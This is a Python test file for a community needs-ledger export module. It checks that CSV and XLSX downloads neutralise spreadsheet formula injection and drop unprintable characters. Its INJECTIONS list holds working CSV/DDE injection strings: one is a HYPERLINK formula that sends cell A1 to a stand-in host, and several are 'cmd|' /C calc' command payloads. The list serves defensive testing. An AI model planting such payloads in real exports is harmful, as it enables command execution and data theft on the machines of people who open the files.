"""台账 exports a community worker opens in Excel: no cell is ever a formula, nothing a
workbook cannot hold breaks the download (the formula-injection finding)."""

from __future__ import annotations

import csv
import io
import zipfile
from types import SimpleNamespace
from typing import Any
from uuid import UUID

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from projections.exports import to_csv, to_xlsx
from tests.builders.http import Api, setup_county

COLUMNS = [("text", "内容"), ("n", "数量")]
INJECTIONS = [
    '=HYPERLINK("http://x/"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_cells(data: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [c for row in sheet.iter_rows(min_row=2) for c in row]


def no_formula_in(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) for n in z.namelist())


def test_formula_like_text_is_shown_as_typed_never_evaluated() -> None:
    rows = [{"text": t, "n": 1} for t in INJECTIONS]
    got = csv_rows(to_csv(rows, COLUMNS))[1:]
    assert [r[0] for r in got] == ["'" + t for t in INJECTIONS]
    data = to_xlsx(rows, COLUMNS, "民生需求台账")
    assert no_formula_in(data)
    texts = [c for c in xlsx_cells(data) if c.column == 1]
    # (XML reads a carriage return back as a line feed)
    assert [c.value for c in texts] == [t.replace("\r", "\n") for t in INJECTIONS]
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)


def test_plain_numbers_and_ordinary_text_are_left_alone() -> None:
    rows = [{"text": "-2.50", "n": -3}, {"text": "修水管，厨房漏水", "n": 0}]
    got = csv_rows(to_csv(rows, COLUMNS))[1:]
    assert got == [["-2.50", "-3"], ["修水管，厨房漏水", "0"]]
    cells = xlsx_cells(to_xlsx(rows, COLUMNS, "台账"))
    assert [c.value for c in cells] == ["-2.50", -3, "修水管，厨房漏水", 0]


def test_characters_a_workbook_cannot_hold_are_dropped_not_fatal() -> None:
    rows = [{"text": "修水管\x00x\x1b\ufffe", "n": 1}]
    assert csv_rows(to_csv(rows, COLUMNS))[1][0] == "修水管x"
    assert xlsx_cells(to_xlsx(rows, COLUMNS, "台账:/?*[]"))[0].value == "修水管x"


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=4), st.text(max_size=40))
def test_any_text_makes_a_workbook_and_a_csv_without_formulas(texts: list[str], title: str) -> None:
    rows = [{"text": t, "n": i} for i, t in enumerate(texts)]
    data = to_xlsx(rows, COLUMNS, title)
    assert no_formula_in(data)
    assert len(xlsx_cells(data)) == 2 * len(texts)
    for row in csv_rows(to_csv(rows, COLUMNS))[1:]:
        assert not row[0].startswith(("=", "+", "@", "\t", "\r")) or row[0].startswith("'")


def test_the_needs_ledger_downloads_neutralise_what_residents_wrote(store_api: Api) -> None:
    api = store_api
    ids = setup_county(api)
    from domain.actors import Role

    staff = api.token(Role.COMMUNITY_ADMIN, ids["community"])
    payload = INJECTIONS[0]
    r = api.post(
        "/needs",
        {"content": payload, "category": "it", "requester_name": "李彤", "source": "visit"},
        staff,
    )
    assert r.status_code == 201, r.text
    path = f"/communities/{ids['community']}/needs"
    xlsx = api.get(path, staff, format="xlsx")
    assert xlsx.status_code == 200 and no_formula_in(xlsx.content)
    assert payload in [c.value for c in xlsx_cells(xlsx.content)]
    csv_ = api.get(path, staff, format="csv")
    assert csv_.status_code == 200
    assert "'" + payload in [cell for row in csv_rows(csv_.content) for cell in row]


def test_a_need_stored_with_a_nul_before_the_text_rule_still_downloads(api: Api) -> None:
    """The SQLite half of the NUL finding: the event is there forever, the ledger's
    xlsx answered 500 forever; now the character is dropped from the download."""
    from domain.actors import Actor, Role
    from tests.builders.world import stored_need

    ids = setup_county(api)
    community_id = UUID(ids["community"])
    place = SimpleNamespace(
        app=api.client.app.state.services.app,  # type: ignore[attr-defined]
        county_id=api.county_id,
        community_id=community_id,
        staff=Actor(Role.COMMUNITY_ADMIN, "社区-李", community_id),
    )
    stored_need(place, "修水管\x00x")  # type: ignore[arg-type]
    staff = api.token(Role.COMMUNITY_ADMIN, ids["community"])
    r = api.post("/units", {"name": "推进日志的单位", "member_count": 1}, api.org)
    assert r.status_code == 201
    xlsx = api.get(f"/communities/{ids['community']}/needs", staff, format="xlsx")
    assert xlsx.status_code == 200, xlsx.text
    assert "修水管x" in [c.value for c in xlsx_cells(xlsx.content)]
